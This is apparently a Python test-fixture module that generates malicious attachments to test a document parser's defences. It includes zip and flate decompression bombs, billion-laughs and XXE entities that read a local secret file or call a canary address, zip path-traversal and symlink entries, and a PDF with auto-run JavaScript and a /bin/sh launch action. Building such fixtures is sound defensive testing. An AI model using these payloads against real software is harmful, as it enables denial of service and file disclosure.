"""Files made to harm whoever reads them. ``canary`` is an address, and ``secret`` a file, that none may reach.

Each is a name and bytes, or what makes the bytes where that takes time: every process of a test run asks for the names alone.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.content import attachment_files as files

MEGABYTE = 1024 * 1024
Case = tuple[str, bytes | Callable[[], bytes]]


def _packed(size: int, piece: bytes = b" " * MEGABYTE) -> bytes:
    """A deflated stream of so many bytes, made without holding them."""
    packer = zlib.compressobj(3)
    out = b"".join(packer.compress(piece) for _ in range(size // len(piece)))
    return out + packer.flush()


def _bomb(parts: dict[str, bytes | str], name: str, head: bytes, tail: bytes, size: int) -> bytes:
    """An archive with one part, between head and tail, blown up."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=3) as archive:
        for other, data in parts.items():
            if other != name:
                archive.writestr(other, data)
        with archive.open(name, "w") as part:
            part.write(head)
            for _ in range(size // MEGABYTE):
                part.write(b" " * MEGABYTE)
            part.write(tail)
    return buffer.getvalue()


def _parts(data: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _blown(data: bytes, name: str, at: bytes, size: int = 120 * MEGABYTE) -> bytes:
    parts = _parts(data)
    whole = parts[name]
    assert isinstance(whole, bytes)
    place = whole.index(at) + len(at)
    return _bomb(parts, name, whole[:place], whole[place:], size)


def _with_prolog(data: bytes, name: str, prolog: str, entity: str) -> bytes:
    """The same archive with a DOCTYPE before one part's root, and an entity where its text begins."""
    parts = _parts(data)
    whole = parts[name]
    assert isinstance(whole, bytes)
    text = whole.decode()
    head, _, rest = text.partition("?>")
    rest = (
        rest.replace("Evacuation plan", entity)
        .replace("Handover", entity)
        .replace("Harbour", entity)
        .replace("Roadmap", entity)
    )
    return files.zipped({**parts, name: f"{head}?>{prolog}{rest}"})


def _overlapping() -> bytes:
    """An archive whose every entry is the same bytes (a bomb of which no single file is large)."""
    data = _packed(100 * MEGABYTE)
    checksum = 0
    for _ in range(100):
        checksum = zlib.crc32(b" " * MEGABYTE, checksum)
    name = b"word/document.xml"
    local = (
        struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 8, 0, 0, checksum, len(data), 100 * MEGABYTE, len(name), 0)
        + name
        + data
    )
    entries = b""
    for number in range(500):
        other = name if number == 0 else b"word/%d.xml" % number
        entries += struct.pack(
            *(
                "<4sHHHHHHLLLHHHHHLL",
                b"PK\1\2",
                20,
                20,
                0,
                8,
                0,
                0,
                checksum,
                len(data),
                100 * MEGABYTE,
                len(other),
                0,
                0,
                0,
                0,
                0,
                0,
            )
        )
        entries += other
    return local + entries + struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 500, 500, len(entries), len(local), 0)


def _symlink(data: bytes, target: str) -> bytes:
    parts = _parts(data)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in parts.items():
            info = zipfile.ZipInfo(name)
            if name == "word/document.xml":
                info.create_system, info.external_attr, body = 3, 0o120777 << 16, target
            archive.writestr(info, body)
    return buffer.getvalue()


def _locked_zip(data: bytes) -> bytes:
    """The same archive with the flag of encryption set on every entry."""
    out = bytearray(data)
    for magic, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = out.find(magic)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(magic, at + 4)
    return bytes(out)


def _compound(streams: bytes) -> bytes:
    """A compound file whose chain of sectors runs in a circle."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:32] = struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)
    header[44:60] = struct.pack("<LLLL", 1, 1, 0, 0x1000)
    header[60:80] = struct.pack("<LLLLL", 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    table = struct.pack("<L", 0xFFFFFFFD) + struct.pack("<LL", 2, 1) + b"\xff\xff\xff\xff" * 125
    return bytes(header) + table + streams.ljust(512, b"\0") + b"\0" * 512


def _pdf(content: bytes, resources: bytes = b"", extra: dict[int, bytes] | None = None, page: bytes = b"") -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> %s >>"
        % (resources, page),
        4: files.stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    return files.pdf_of({**objects, **(extra or {})})


def _packed_twice() -> bytes:
    packed = zlib.compress(_packed(150 * MEGABYTE), 9)
    return _pdf(b"", extra={4: files.stream(packed, b"/Filter [/FlateDecode /FlateDecode]")})


def pdfs(canary: str, secret: Path) -> dict[str, Case]:
    """Portable documents."""
    address, file = canary.encode(), str(secret).encode()
    good = files.pdf([["Fire drill", "Meet at the gate."]])
    text = b"BT /F1 12 Tf 72 700 Td (Readable) Tj ET"
    font = b"/Font << /F1 5 0 R >>"
    cmap = (
        b"begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
        b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"
    )
    deep = {n: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (n + 1) for n in range(10, 6010)}
    return {
        "flate bomb": ("a.pdf", _packed_twice),
        "pages that are their own parents": (
            "a.pdf",
            _pdf(text, extra={2: b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"}),
        ),
        "pages 6,000 levels deep": (
            "a.pdf",
            _pdf(text, extra={2: b"<< /Type /Pages /Count 1 /Kids [10 0 R] >>", **deep}),
        ),
        "a billion pages": ("a.pdf", _pdf(text, extra={2: b"<< /Type /Pages /Count 1000000000 /Kids [3 0 R] >>"})),
        "one page a hundred thousand times": (
            "a.pdf",
            _pdf(text, font, {2: b"<< /Type /Pages /Count 100000 /Kids [" + b"3 0 R " * 100_000 + b"] >>"}),
        ),
        "cross references that lead back": ("a.pdf", good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")),
        "a length that is itself": ("a.pdf", _pdf(text, extra={4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"})),
        "references in a circle": ("a.pdf", _pdf(text, extra={2: b"6 0 R", 6: b"2 0 R"})),
        "a hundred thousand brackets": ("a.pdf", _pdf(b"[" * 100_000, extra={6: b"[" * 100_000})),
        "brackets in the catalogue": (
            "a.pdf",
            _pdf(text, extra={1: b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 500_000 + b" >>"}),
        ),
        "a form that draws itself": (
            "a.pdf",
            _pdf(
                b"/X Do",
                b"/XObject << /X 6 0 R >>",
                {
                    6: files.stream(
                        b"/X Do /X Do",
                        b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>",
                    )
                },
            ),
        ),
        "a font that shows itself": (
            "a.pdf",
            _pdf(
                b"BT /T 12 Tf (aaaa) Tj ET",
                b"/Font << /T 6 0 R >>",
                {
                    6: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] "
                    b"/FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] "
                    b"/Encoding << /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /Resources << /Font << /T 6 0 R >> >> >>",
                    7: files.stream(b"9 0 d0 BT /T 12 Tf (aaaa) Tj ET"),
                },
            ),
        ),
        "a font program without an end": (
            "a.pdf",
            _pdf(
                text,
                font,
                {
                    5: b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 6 0 R >>",
                    6: b"<< /Type /FontDescriptor /FontName /X /FontFile2 7 0 R >>",
                    7: files.stream(b"\0\1\0\0\xff\xff\0\0\0\0\0\0" + b"glyf\0\0\0\0\0\0\0\0\xff\xff\xff\xff" * 4000),
                },
            ),
        ),
        "a map of four billion characters": (
            "a.pdf",
            _pdf(
                b"BT /F1 12 Tf 72 700 Td <0000004100000042> Tj ET",
                font,
                {
                    5: b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts [7 0 R] >>",
                    6: files.stream(cmap),
                    7: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /W [0 4294967295 500] >>",
                },
            ),
        ),
        "a picture of ten thousand million dots": (
            "a.pdf",
            _pdf(
                b"/I Do",
                b"/XObject << /I 6 0 R >>",
                {
                    6: files.stream(
                        b"x",
                        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
                    )
                },
            ),
        ),
        "scripts, launches and addresses": (
            "a.pdf",
            files.pdf(
                [["Visible"]],
                root=b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> "
                b"/O << /S /URI /URI (%s) >> >>" % (address, address),
            ),
        ),
        "content in another file": (
            "a.pdf",
            _pdf(
                b"",
                extra={4: b"<< /Length 0 /F << /Type /Filespec /FS /URL /F (%s) >> >>\nstream\n\nendstream" % address},
            ),
        ),
        "content in a file of this machine": (
            "a.pdf",
            _pdf(b"", extra={4: b"<< /Length 0 /F (%s) >>\nstream\n\nendstream" % file}),
        ),
        "forms that point outside": (
            "a.pdf",
            files.pdf(
                [["Visible"]],
                root=b"/AcroForm << /XFA 900 0 R >>",
                extra={900: files.stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>' % address)},
            ),
        ),
        "encrypted": (
            "a.pdf",
            files.pdf([["Locked"]]).replace(
                b"/Root 1 0 R",
                b"/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >>"
                % (b"ab" * 32, b"cd" * 32),
            ),
        ),
        "an unknown lock": (
            "a.pdf",
            files.pdf([["Locked"]]).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Nobody /V 9 >>"),
        ),
        "cut in the middle": ("a.pdf", good[: len(good) // 2]),
        "a header and nothing more": ("a.pdf", b"%PDF-1.7\n"),
        "a header and noise": ("a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4000),
    }


def packages(canary: str, secret: Path) -> dict[str, Case]:
    """Office documents."""
    word, sheet, slides = (
        files.docx(paragraphs=["One"]),
        files.xlsx([["Harbour"]]),
        files.pptx([("Roadmap", "text", "notes")]),
    )
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xxe">]>'
    within = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    definition = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/dtd"> %p;]>'
    picture = f'<w:p><w:r><w:t>Text</w:t></w:r></w:p><w:p><w:r><w:instrText>INCLUDEPICTURE "{canary}/p.png"</w:instrText></w:r></w:p>'
    template = (
        f'{files.XML}<Relationships xmlns="{files.RELATIONS}"><Relationship Id="rId1" Type="{files.R}/attachedTemplate" '
        f'Target="{canary}/t.dotm" TargetMode="External"/></Relationships>'
    )
    macros = files.docx(paragraphs=["Macros inside"], parts={"word/vbaProject.bin": _compound(b"Sub AutoOpen()")})
    return {
        "Word bomb": ("a.docx", partial(_blown, word, "word/document.xml", b"One")),
        "Excel bomb": ("a.xlsx", partial(_blown, sheet, "xl/worksheets/sheet1.xml", b"<sheetData>")),
        "PowerPoint bomb": ("a.pptx", partial(_blown, slides, "ppt/slides/slide1.xml", b"<p:spTree>")),
        "OpenDocument bomb": ("a.odt", partial(_blown, files.odt(), "content.xml", b"<office:text>")),
        "bomb of the same bytes 500 times": ("a.docx", _overlapping),
        "an archive within an archive within": (
            "a.docx",
            files.zipped({"a.zip": files.zipped({"b.zip": files.zipped({"c": b"x" * 99})})}),
        ),
        "sixty thousand entries": (
            "a.docx",
            lambda: files.zipped({**_parts(word), **{f"word/x{n}": b"" for n in range(60_000)}}),
        ),
        "names that climb out": (
            "a.docx",
            files.docx(
                paragraphs=["In"],
                parts={f"../../../../../../..{secret}.new": b"x", f"{secret}.abs": b"x", "..\\..\\evil": b"x"},
            ),
        ),
        "a document that is a link": ("a.docx", _symlink(word, str(secret))),
        "a local file as an entity": ("a.docx", _with_prolog(word, "word/document.xml", within, "&e;")),
        "an address as an entity": ("a.docx", _with_prolog(word, "word/document.xml", outside, "&e;")),
        "a definition from elsewhere": ("a.pptx", _with_prolog(slides, "ppt/slides/slide1.xml", definition, "x")),
        "an entity in a workbook": ("a.xlsx", _with_prolog(sheet, "xl/worksheets/sheet1.xml", outside, "&e;")),
        "an entity in OpenDocument": ("a.odt", _with_prolog(files.odt(), "content.xml", within, "&e;")),
        "billion laughs": (
            "a.docx",
            _with_prolog(word, "word/document.xml", f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l11;"),
        ),
        "billion laughs in OpenDocument": (
            "a.odt",
            _with_prolog(files.odt(), "content.xml", f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', "&l11;"),
        ),
        "one long entity, often": (
            "a.docx",
            _with_prolog(word, "word/document.xml", f'<!DOCTYPE x [<!ENTITY q "{"q" * 100_000}">]>', "&q;" * 50_000),
        ),
        "tables a hundred thousand deep": (
            "a.docx",
            files.docx("<w:tbl><w:tr><w:tc>" * 100_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 100_000),
        ),
        "sections a hundred thousand deep": (
            "a.odt",
            files.open_document("text", "<text:section>" * 100_000 + "x" + "</text:section>" * 100_000),
        ),
        "repeated a billion times": (
            "a.ods",
            files.open_document(
                "spreadsheet",
                '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
                'table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
            ),
        ),
        "spaces a billion times": (
            "a.odt",
            files.open_document("text", '<text:p>a<text:s text:c="4000000000"/>b</text:p>'),
        ),
        "a cell at the far corner": (
            "a.xlsx",
            files.xlsx(
                [], data='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row>'
            ),
        ),
        "a shared text that is not there": (
            "a.xlsx",
            files.xlsx([], data='<row r="1"><c r="A1" t="s"><v>99999999999</v></c></row>'),
        ),
        "a picture from elsewhere": ("a.docx", files.docx(picture)),
        "a template from elsewhere": (
            "a.docx",
            files.docx(paragraphs=["x"], parts={"word/_rels/settings.xml.rels": template}),
        ),
        "macros": ("a.docm", macros),
        "encrypted Office": (
            "a.docx",
            _compound("EncryptedPackage".encode("utf-16-le").ljust(64, b"\0") + b"\x14\0\2\0\5"),
        ),
        "encrypted archive": ("a.docx", _locked_zip(word)),
        "cut archive": ("a.docx", word[: len(word) // 2]),
        "broken checksum": ("a.docx", word.replace(b"PK\3\4", b"PK\3\4", 1)[:60] + b"\xff\xff" + word[62:]),
        "a compound file in a circle": (
            "a.doc",
            _compound("WordDocument".encode("utf-16-le").ljust(64, b"\0") + b"\x1a\0\2\1\1"),
        ),
        "a workbook in a circle": (
            "a.xls",
            _compound("Workbook".encode("utf-16-le").ljust(64, b"\0") + b"\x12\0\2\1\1"),
        ),
        "mail in a circle": (
            "a.msg",
            _compound("__substg1.0_1000001F".encode("utf-16-le").ljust(64, b"\0") + b"\x2a\0\2\1\1"),
        ),
    }


def texts(canary: str, secret: Path) -> dict[str, Case]:
    """Everything that is text, and what only says that it is."""
    nested = b"Content-Type: text/plain\r\n\r\ninnermost\r\n"
    for number in range(1500):
        nested = b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n%s\r\n--b%d--\r\n' % (
            number,
            number,
            nested,
            number,
        )
    reaching = (
        f'<html><head><link rel=stylesheet href="{canary}/c.css"><meta http-equiv=refresh content="0;url={canary}/r">'
        f'<base href="{canary}/">'
        f'</head><body><img src="{canary}/i.png"><iframe src="file://{secret}"></iframe><script src="{canary}/s.js"></script>'
        f'<object data="{canary}/o"></object><p>Words</p></body></html>'
    )
    external = (
        f"From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL;\r\n"
        f' URL="{canary}/mail"\r\n\r\nContent-Type: text/plain\r\n\r\n'
    )
    entity = f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{secret}">]><html><body>&e;</body></html>'
    return {
        "elements two hundred thousand deep": ("a.html", b"<div>" * 200_000 + b"x"),
        "lists a hundred thousand deep": ("a.html", b"<ul><li>" * 100_000 + b"x"),
        "tables fifty thousand deep": ("a.html", b"<table><tr><td>" * 50_000 + b"x"),
        "quotations without an end": ("a.html", b"<blockquote><b><i><a href=x>" * 50_000 + b"x"),
        "an attribute of ten megabytes": ("a.html", b'<p title="' + b"x" * 10 * MEGABYTE + b'">text</p>'),
        "addresses everywhere": ("a.html", reaching.encode()),
        "an entity in HTML": ("a.xhtml", b'<?xml version="1.0"?>' + entity.encode()),
        "a span over a billion columns": ("a.html", b"<table><tr><td colspan=1000000000 rowspan=1000000000>x</table>"),
        "mail 1,500 levels deep": ("a.eml", b"From: a@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n" + nested),
        "mail of a hundred thousand headers": (
            "a.eml",
            b"From: a@example.com\r\n" + b"X-H: v\r\n" * 100_000 + b"\r\nbody\r\n",
        ),
        "mail whose body is elsewhere": ("a.eml", external.encode()),
        "mail with an endless boundary": (
            "a.eml",
            b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="'
            + b"-" * 100_000
            + b'"\r\n\r\n'
            + b"-" * MEGABYTE,
        ),
        "one line of ten megabytes": ("a.csv", b"x" * 10 * MEGABYTE),
        "five million commas": ("a.csv", b"," * 5_000_000),
        "a quote that never closes": ("a.csv", b'a,"b' + b"\n1,2" * 500_000),
        "a million groups": ("a.rtf", b"{\\rtf1" + b"{" * 1_000_000 + b"x"),
        "pictures by name": (
            "a.rtf",
            f'{{\\rtf1 Text {{\\field{{\\*\\fldinst INCLUDEPICTURE "{canary}/p"}}}}}}'.encode(),
        ),
        "a length beyond the end": ("a.rtf", b"{\\rtf1 {\\bin4000000000 abc} text}"),
        "zeros in text": ("a.txt", b"before\0after\n" * 1000),
        "nothing but zeros": ("a.pdf", b"\0" * MEGABYTE),
        "nothing": ("a.docx", b""),
        "one byte": ("a.xlsx", b"P"),
        "twenty megabytes of text": ("a.txt", b"word " * 4_000_000),
        "half a character": ("a.md", b"# Head\xf0\x9f\x98"),
        "a program by the name of a document": ("a.pdf", b"\x7fELF\2\1\1" + bytes(range(256)) * 40),
        "a program by the name of a table": ("a.csv", b"MZ\x90\0\3\0\0\0" + bytes(range(256)) * 40),
        "a picture by the name of a document": (
            "a.docx",
            b"\x89PNG\r\n\x1a\n" + struct.pack(">L4sLL", 13, b"IHDR", 2**31 - 1, 2**31 - 1),
        ),
        "packed by the name of a document": ("a.pdf", b"\x1f\x8b\x08\0\0\0\0\0\0\3" + _packed(50 * MEGABYTE)[2:-4]),
        "a document and an archive in one": ("a.pdf", files.pdf([["Both"]]) + files.zipped({"x": b"y"})),
        "a document by the name of another": ("a.docx", files.pdf([["Really a PDF"]])),
        "colours for a terminal": ("a.log", b"\x1b[31mred\x1b[0m \x07\x08 plain\r\n" * 100),
    }


ALL: tuple[Callable[[str, Path], dict[str, Case]], ...] = (pdfs, packages, texts)
